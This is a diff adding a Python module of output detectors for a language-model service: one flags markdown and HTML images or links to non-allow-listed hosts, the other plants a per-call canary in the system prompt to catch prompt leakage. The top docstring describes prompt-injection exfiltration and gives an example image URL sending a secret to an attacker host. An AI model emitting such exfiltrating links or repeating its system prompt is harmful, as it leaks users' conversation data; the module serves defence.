@@ -1,0 +1,111 @@
+"""Detectors of what a model's answer must not do: send data to someone else's server, or
+repeat the system prompt.
+
+Exfiltration: a model steered by injected text can be made to write a markdown image whose
+URL carries the conversation (``![x](https://attacker.example/?q=SECRET)``); a client that
+renders markdown fetches it with no click. Links do the same with one click. Images and links
+to hosts outside the rule's allow-list are found with their spans, so they can be cut out
+(also from a stream, by the look-ahead scanner), and relative links, fragments and ``data:``
+images (no request leaves the client) pass.
+
+Leakage: a canary token, fresh per call, is placed in the system prompt; an answer that
+contains it is repeating the system prompt.
+"""
+
+from __future__ import annotations
+
+import re
+import secrets
+from urllib.parse import urlsplit
+
+from seamline.guards.findings import EXFILTRATION, LEAK, Finding
+
+_URL = r"<?([^\s)>]{1,4096})>?(?:\s+(?:\"[^\"\n]{0,500}\"|'[^'\n]{0,500}'))?\s*"
+_HTML_URL = r"\s*=\s*[\"']?([^\"'\s>]{1,4096})[^>]{0,2000}>?"
+# (label, score, pattern whose group 1 is the URL). Bounded repetitions throughout: no
+# pattern can backtrack more than linearly on hostile output.
+_PATTERNS: tuple[tuple[str, float, re.Pattern[str]], ...] = (
+    ("markdown_image", 1.0, re.compile(r"!\[[^\]\n]{0,1000}\]\(\s*" + _URL + r"\)")),
+    ("markdown_link", 0.9, re.compile(r"(?<!!)\[[^\]\n]{0,1000}\]\(\s*" + _URL + r"\)")),
+    (
+        "link_definition",
+        0.9,
+        re.compile(r"(?m)^[ \t]{0,3}\[[^\]\n]{1,1000}\]:[ \t]*<?([^\s>]{1,4096})>?"),
+    ),
+    (
+        "html_image",
+        1.0,
+        re.compile(r"(?i)<img\b[^>]{0,2000}?\bsrc\s*=\s*[\"']?([^\"'\s>]{1,4096})[^>]{0,2000}>?"),
+    ),
+    (
+        "html_link",
+        0.9,
+        re.compile(r"(?i)<a\b[^>]{0,2000}?\bhref\s*=\s*[\"']?([^\"'\s>]{1,4096})[^>]{0,2000}>?"),
+    ),
+)
+
+
+class ExfiltrationDetector:
+    """Markdown and HTML images and links to hosts outside ``allowed_hosts`` (a host allows
+    its subdomains)."""
+
+    name = "exfiltration"
+
+    def __init__(self, allowed_hosts: list[str]) -> None:
+        self.allowed_hosts = tuple(host.lower().strip(".") for host in allowed_hosts)
+
+    def scan(self, text: str, *, untrusted: bool = False) -> list[Finding]:
+        if "](" not in text and "]:" not in text and "<" not in text:
+            return []  # the usual answer: nothing to parse
+        findings: list[Finding] = []
+        for label, score, pattern in _PATTERNS:
+            for match in pattern.finditer(text):
+                if not self._allowed(match.group(1)):
+                    findings.append(
+                        Finding(self.name, EXFILTRATION, label, score, match.start(), match.end())
+                    )
+        return findings
+
+    def _allowed(self, url: str) -> bool:
+        if url.startswith(("#", "/", "./", "../")) or url.lower().startswith("data:image/"):
+            return True
+        try:
+            parts = urlsplit(url)
+        except ValueError:
+            return False
+        host = (parts.hostname or "").lower()
+        if not parts.scheme and not host:
+            return True  # a relative path: the client's own site
+        return any(host == h or host.endswith("." + h) for h in self.allowed_hosts)
+
+
+def new_canary() -> str:
+    return f"sl-canary-{secrets.token_hex(8)}"
+
+
+def with_canary(messages: list[dict[str, object]], canary: str) -> list[dict[str, object]]:
+    """``messages`` with the canary in the system prompt, as a comment that a model has no
+    reason to repeat (a system message is added when the call has none)."""
+    marker = f"<!-- {canary} -->"
+    first = messages[0] if messages else None
+    if first is not None and first.get("role") in ("system", "developer"):
+        content = first.get("content")
+        if isinstance(content, str):
+            return [{**first, "content": f"{content}\n{marker}"}, *messages[1:]]
+    return [{"role": "system", "content": marker}, *messages]
+
+
+class CanaryLeak:
+    """The call's canary in an answer: the system prompt is being repeated."""
+
+    name = "leakage"
+
+    def __init__(self, canary: str) -> None:
+        # The random part alone: a model that repeats the token may drop the prefix.
+        self._token = canary.removeprefix("sl-canary-")
+
+    def scan(self, text: str, *, untrusted: bool = False) -> list[Finding]:
+        at = text.find(self._token)
+        if at < 0:
+            return []
+        return [Finding(self.name, LEAK, "system_prompt_leak", 1.0, at, at + len(self._token))]
